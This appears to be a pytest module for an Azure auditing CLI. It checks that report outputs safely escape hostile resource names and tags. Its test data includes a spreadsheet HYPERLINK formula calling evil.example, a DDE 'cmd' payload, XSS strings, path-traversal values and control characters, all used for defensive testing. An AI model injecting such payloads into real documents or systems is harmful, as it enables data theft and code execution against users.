"""A hostile estate end to end: names, tags and values written by whoever can edit a subscription,
chosen to break each report format, through the CLI; then every output file is inspected.

Values from Azure are data everywhere: never a formula in a workbook or CSV, never markup in
HTML, never a broken Markdown table, never part of a file name or path. Formats a scan does not
write (yet) are skipped by construction: the test inspects whatever files the scan wrote, by
kind. File names derived from owners (the per-owner reports) must be sanitised: a safe alphabet,
no path traversal, nothing written outside the report folder.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from auditor.cli import main
from reports.sanitize import FORMULA_TRIGGERS
from tests.factories import job_row

AS_OF = "2026-11-20T00:00:00Z"

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
MARKUP = ['<script>alert("x")</script>', '"><img src=x onerror=alert(1)>', "&lt;b&gt;",
          "javascript:alert(1)"]
MARKDOWN = ["a | b | c", "line one\nline two", "`code` and ``` fence", "**bold** [link](x)",
            "| leading pipe", "trailing pipe |", "\\| escaped"]
PATHS = ["../../../etc/passwd", "..\\..\\windows\\system32", "/absolute/owner", "con", "a/b/c",
         "owner\x00nul"]
UNICODE = ["\u202eevil\u202c", "zero\u200bwidth", "💥" * 20, "\ud800 lone surrogate",
           "x" * 5000]
HOSTILE = FORMULAS + MARKUP + MARKDOWN + PATHS + UNICODE


def _hostile_jobs() -> list[dict[str, Any]]:
    jobs = []
    for n, value in enumerate(HOSTILE):
        row = job_row(f"job-{n}", identity=None)  # fails CAJ-001: every job is in Findings
        row["name"] = value if "\x00" not in value else f"job-{n}"
        row["tags"] = {"owner": value, "cost-center": value, "environment": value, value: "x"}
        row["location"] = value
        container = row["properties"]["template"]["containers"][0]
        container["image"] = f"docker.io/{value}:latest"
        container["env"] = [{"name": value, "value": "plain"}]
        row["properties"]["configuration"]["scheduleTriggerConfig"]["cronExpression"] = value
        jobs.append(row)
    return jobs


@pytest.fixture(scope="module")
def scan(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, int, set[str]]:
    base = tmp_path_factory.mktemp("hostile-estate")
    export = base / "export"
    export.mkdir()
    (export / "jobs.json").write_text(json.dumps(_hostile_jobs(), ensure_ascii=True))
    out = base / "out"
    before = {p.name for p in base.iterdir()}
    code = main(["scan", "--snapshot", str(export), "--out", str(out), "--as-of", AS_OF])
    return out, code, {p.name for p in base.iterdir()} - before


def _outputs(out: Path) -> list[Path]:
    return sorted(p for p in out.rglob("*")
                  if p.is_file() and p.relative_to(out).parts[0] != "snapshot")


def test_the_scan_completes_and_writes_only_inside_its_folder(
        scan: tuple[Path, int, set[str]]) -> None:
    out, code, created = scan
    assert code == 1
    assert created == {"out"}  # nothing beside the report folder (no traversal, no leftovers)
    for path in out.rglob("*"):
        assert path.resolve().is_relative_to(out.resolve())
        assert not path.is_symlink()
    # File names derived from values (per-owner reports) are sanitised: a safe alphabet, no
    # separators or `..`, no leading dot or dash, not a Windows device name.
    for path in _outputs(out):
        for part in path.relative_to(out).parts:
            assert re.fullmatch(r"[A-Za-z0-9@_][A-Za-z0-9@._-]{0,120}", part), part
            assert ".." not in part
            assert part.split(".")[0].lower() not in {"con", "prn", "aux", "nul", "com1", "lpt1"}
    findings = json.loads((out / "findings.json").read_text())["findings"]
    assert len({f["resource_id"] for f in findings}) == len(HOSTILE)


def test_findings_json_keeps_every_value_as_data(scan: tuple[Path, int, set[str]]) -> None:
    out, _, _ = scan
    findings = json.loads((out / "findings.json").read_text())["findings"]
    names = {f["resource_name"] for f in findings}
    for value in FORMULAS + MARKUP + MARKDOWN:
        assert value in names  # verbatim: JSON is for machines, escaping is the reader's job


def test_no_workbook_cell_is_a_formula_made_of_azure_text(
        scan: tuple[Path, int, set[str]]) -> None:
    out, _, _ = scan
    book = load_workbook(out / "report.xlsx")
    checked = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert not any(marker in str(cell.value)
                                   for marker in ("HYPERLINK", "cmd", "SUM(A1", "evil")), (
                        sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip("'").startswith(
                        tuple(v[:3] for v in FORMULAS)):
                    checked += 1
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
    assert checked, "the hostile names reached the workbook (else this proves nothing)"


def test_no_csv_cell_starts_like_a_formula(scan: tuple[Path, int, set[str]]) -> None:
    out, _, _ = scan
    files = [p for p in _outputs(out) if p.suffix == ".csv"]
    if not files:
        pytest.skip("this build writes no CSV report")
    for path in files:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for cell in row:
                if cell.startswith(FORMULA_TRIGGERS):
                    assert re.fullmatch(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?", cell), (path, cell)


def _cells(line: str) -> list[str]:
    return re.split(r"(?<!\\)\|", line.strip().strip("|"))


def test_markdown_tables_keep_their_shape(scan: tuple[Path, int, set[str]]) -> None:
    out, _, _ = scan
    tables = 0
    for path in [p for p in _outputs(out) if p.suffix == ".md"]:  # report.md, per-owner files
        text = path.read_text(encoding="utf-8")
        lines = text.splitlines()
        for index, line in enumerate(lines):
            if re.fullmatch(r"\|(\s*:?-+:?\s*\|)+", line.strip()):  # a header separator
                tables += 1
                width = len(_cells(lines[index - 1]))
                assert len(_cells(line)) == width, path
                for row in lines[index + 1:]:
                    if not row.startswith("|"):
                        break
                    assert len(_cells(row)) == width, (path, row)
        assert '<script>alert("x")</script>' not in text, path  # GitHub strips it; not all do
        assert "<img src=x" not in text, path
    assert tables


def test_html_escapes_everything(scan: tuple[Path, int, set[str]]) -> None:
    out, _, _ = scan
    files = [p for p in _outputs(out) if p.suffix == ".html"]
    if not files:
        pytest.skip("this build writes no HTML report")
    for path in files:
        text = path.read_text(encoding="utf-8")
        for value in MARKUP[:2]:
            assert value not in text, path
        assert "onerror=alert(1)>" not in text
        assert len(re.findall(r"<script\b", text)) == len(re.findall(r"</script>", text))
        assert "alert(\"x\")</script>" not in text


def test_every_text_output_is_valid_utf8_without_raw_controls(
        scan: tuple[Path, int, set[str]]) -> None:
    out, _, _ = scan
    for path in _outputs(out):
        if path.suffix in (".xlsx", ".parquet", ".zip", ".gz"):
            continue
        text = path.read_bytes().decode("utf-8")  # a lone surrogate would not encode
        assert "\x00" not in text, path
        # Reports for people show hidden characters instead of obeying them; the machine
        # formats (findings.json, SARIF) carry the data verbatim, as JSON escapes or text.
        assert "\u202e" not in text or path.suffix in (".json", ".sarif"), path
